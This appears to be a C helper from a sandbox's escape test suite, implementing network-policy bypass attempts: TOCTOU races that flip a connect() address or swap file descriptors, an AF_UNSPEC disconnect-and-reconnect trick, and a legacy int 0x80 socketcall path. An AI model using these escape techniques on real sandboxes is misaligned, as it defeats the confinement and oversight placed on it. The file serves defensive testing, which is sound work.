// cordon tests – network attacks that need real threads or raw syscalls (test/escape/network-battery.test.ts).
//
//   netattack race IP1 PORT1 IP2 PORT2 N
//       N sequential connects from fresh TCP sockets to one sockaddr buffer that a second thread flips
//       between IP1:PORT1 and IP2:PORT2 (one 64-bit store: family, port and address change together).
//       Reads each connection's banner; prints one line "A=<n> B=<n> EMPTY=<n> OTHER=<n> ERR=<n>" where
//       A/B count banners starting with "hello a"/"hello b", EMPTY connections that read nothing (reset
//       or closed at once: a denied port on the capture) and ERR failed connects.
//   netattack flip-family IP PORT TIP TPORT MS
//       Connects to IP:PORT (an allowed destination: on the withdrawn direct path the fd became a socket
//       of the host's network namespace, hole 1), then for up to MS ms calls connect() on it with a buffer that a
//       second thread flips between AF_INET 127.0.0.9:9 (not captured) and AF_UNSPEC (disconnect).
//       Once the socket is disconnected it connects to TIP:TPORT. Prints "RECONNECTED <banner>",
//       "DISCONNECTED <errno of the reconnect>" or "HELD <attempts>".
//   netattack swap-fd IP PORT TIP TPORT MS
//       As flip-family, but the buffer is always AF_UNSPEC and a second thread swaps the fd number
//       between the host socket and a fresh sandbox socket (dup2), so a check of "which socket is
//       this fd" made before the kernel runs the syscall can be raced.
//   netattack int80-connect IP PORT
//       socket() + connect() through the i386 socketcall(2) entry (int $0x80). Prints "connected
//       <banner>" or "errno <n>".
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

static uint64_t now_ms(void) {
  struct timeval tv;
  gettimeofday(&tv, NULL);
  return (uint64_t)tv.tv_sec * 1000 + (uint64_t)tv.tv_usec / 1000;
}

static struct sockaddr_in addr_of(const char* ip, const char* port) {
  struct sockaddr_in sa;
  memset(&sa, 0, sizeof sa);
  sa.sin_family = AF_INET;
  sa.sin_port = htons((uint16_t)atoi(port));
  if (inet_pton(AF_INET, ip, &sa.sin_addr) != 1) {
    fprintf(stderr, "bad address %s\n", ip);
    exit(2);
  }
  return sa;
}

static int read_all(int fd, char* buf, size_t cap) {
  size_t n = 0;
  struct timeval tv = {3, 0};
  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
  while (n + 1 < cap) {
    ssize_t r = read(fd, buf + n, cap - 1 - n);
    if (r <= 0) break;
    n += (size_t)r;
  }
  buf[n] = '\0';
  if (n && buf[n - 1] == '\n') buf[n - 1] = '\0';
  return (int)n;
}

// ---- race: flip the whole destination under a stream of connects ---------------------------------

static _Atomic int g_stop;
static _Alignas(16) struct sockaddr_in g_sa;
static uint64_t g_word[2];

static _Atomic int g_started;

static void* flip_words(void* arg) {
  (void)arg;
  volatile uint64_t* p = (volatile uint64_t*)&g_sa;
  atomic_store(&g_started, 1);
  while (!atomic_load_explicit(&g_stop, memory_order_relaxed)) {
    *p = g_word[0];
    *p = g_word[1];
  }
  return NULL;
}

static int cmd_race(char** argv) {
  struct sockaddr_in a = addr_of(argv[0], argv[1]), b = addr_of(argv[2], argv[3]);
  int n = atoi(argv[4]);
  memcpy(&g_word[0], &a, 8);
  memcpy(&g_word[1], &b, 8);
  g_sa = a;
  pthread_t t;
  pthread_create(&t, NULL, flip_words, NULL);
  while (!atomic_load(&g_started)) usleep(100);
  int ca = 0, cb = 0, empty = 0, other = 0, err = 0;
  for (int i = 0; i < n; ++i) {
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (connect(fd, (struct sockaddr*)&g_sa, sizeof g_sa) != 0) {
      ++err;
    } else {
      char buf[128];
      if (read_all(fd, buf, sizeof buf) == 0) ++empty;
      else if (strncmp(buf, "hello a", 7) == 0) ++ca;
      else if (strncmp(buf, "hello b", 7) == 0) ++cb;
      else ++other;
    }
    close(fd);
  }
  atomic_store(&g_stop, 1);
  pthread_join(t, NULL);
  printf("A=%d B=%d EMPTY=%d OTHER=%d ERR=%d\n", ca, cb, empty, other, err);
  return 0;
}

// ---- flip-family / swap-fd: disconnect the socket an allowed connect gave (hole 1's host socket) ----

static int g_host_fd, g_sandbox_fd, g_target_fd;

static void* swap_fds(void* arg) {
  (void)arg;
  atomic_store(&g_started, 1);
  while (!atomic_load_explicit(&g_stop, memory_order_relaxed)) {
    dup2(g_host_fd, g_target_fd);
    dup2(g_sandbox_fd, g_target_fd);
  }
  return NULL;
}

static int disconnected(int fd) {
  struct sockaddr_storage ss;
  socklen_t len = sizeof ss;
  return getpeername(fd, (struct sockaddr*)&ss, &len) != 0 && errno == ENOTCONN;
}

static int cmd_disconnect(char** argv, int swap) {
  struct sockaddr_in allowed = addr_of(argv[0], argv[1]), target = addr_of(argv[2], argv[3]);
  uint64_t deadline = now_ms() + (uint64_t)atoi(argv[4]);
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(fd, (struct sockaddr*)&allowed, sizeof allowed) != 0) {
    printf("ALLOWED-FAILED %d\n", errno);
    return 0;
  }
  char buf[128];
  read_all(fd, buf, sizeof buf);
  pthread_t t;
  struct sockaddr_in noncaptured = addr_of("127.0.0.9", "9");
  struct sockaddr_in unspec;
  memset(&unspec, 0, sizeof unspec);  // sa_family 0 = AF_UNSPEC
  int attempts = 0;
  if (swap) {
    g_host_fd = fd;
    g_sandbox_fd = socket(AF_INET, SOCK_STREAM, 0);
    g_target_fd = 100;
    dup2(g_sandbox_fd, g_target_fd);
    pthread_create(&t, NULL, swap_fds, NULL);
    while (!atomic_load(&g_started)) usleep(100);
    while (!disconnected(fd) && now_ms() < deadline) {
      connect(g_target_fd, (struct sockaddr*)&unspec, sizeof unspec);
      ++attempts;
    }
  } else {
    memcpy(&g_word[0], &noncaptured, 8);
    memcpy(&g_word[1], &unspec, 8);
    g_sa = noncaptured;
    pthread_create(&t, NULL, flip_words, NULL);
    while (!atomic_load(&g_started)) usleep(100);
    while (!disconnected(fd) && now_ms() < deadline) {
      connect(fd, (struct sockaddr*)&g_sa, sizeof g_sa);
      ++attempts;
    }
  }
  atomic_store(&g_stop, 1);
  pthread_join(t, NULL);
  if (!disconnected(fd)) {
    printf("HELD %d\n", attempts);
    return 0;
  }
  if (connect(fd, (struct sockaddr*)&target, sizeof target) != 0) {
    printf("DISCONNECTED %d\n", errno);
    return 0;
  }
  read_all(fd, buf, sizeof buf);
  printf("RECONNECTED %s\n", buf);
  return 0;
}

// ---- int80-connect ---------------------------------------------------------------------------------

static long socketcall32(long call, uint32_t args) {
  long ret;
  __asm__ volatile("int $0x80" : "=a"(ret) : "a"(102L), "b"(call), "c"((long)args) : "memory");
  return ret;
}

static int cmd_int80(char** argv) {
  struct sockaddr_in sa = addr_of(argv[0], argv[1]);
  // socketcall takes a pointer to its arguments: both must be 32-bit addresses.
  uint8_t* low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  if (low == MAP_FAILED) {
    printf("mmap32 failed %d\n", errno);
    return 0;
  }
  uint32_t* args = (uint32_t*)low;
  memcpy(low + 64, &sa, sizeof sa);
  args[0] = AF_INET;
  args[1] = SOCK_STREAM;
  args[2] = 0;
  long fd = socketcall32(1 /* SYS_SOCKET */, (uint32_t)(uintptr_t)args);
  if (fd < 0) {
    printf("errno %ld\n", -fd);
    return 0;
  }
  args[0] = (uint32_t)fd;
  args[1] = (uint32_t)(uintptr_t)(low + 64);
  args[2] = sizeof sa;
  long r = socketcall32(3 /* SYS_CONNECT */, (uint32_t)(uintptr_t)args);
  if (r < 0) {
    printf("errno %ld\n", -r);
    return 0;
  }
  char buf[128];
  read_all((int)fd, buf, sizeof buf);
  printf("connected %s\n", buf);
  return 0;
}

int main(int argc, char** argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  if (argc == 7 && strcmp(argv[1], "race") == 0) return cmd_race(argv + 2);
  if (argc == 7 && strcmp(argv[1], "flip-family") == 0) return cmd_disconnect(argv + 2, 0);
  if (argc == 7 && strcmp(argv[1], "swap-fd") == 0) return cmd_disconnect(argv + 2, 1);
  if (argc == 4 && strcmp(argv[1], "int80-connect") == 0) return cmd_int80(argv + 2);
  fprintf(stderr, "usage: see the header of netattack.c\n");
  return 2;
}
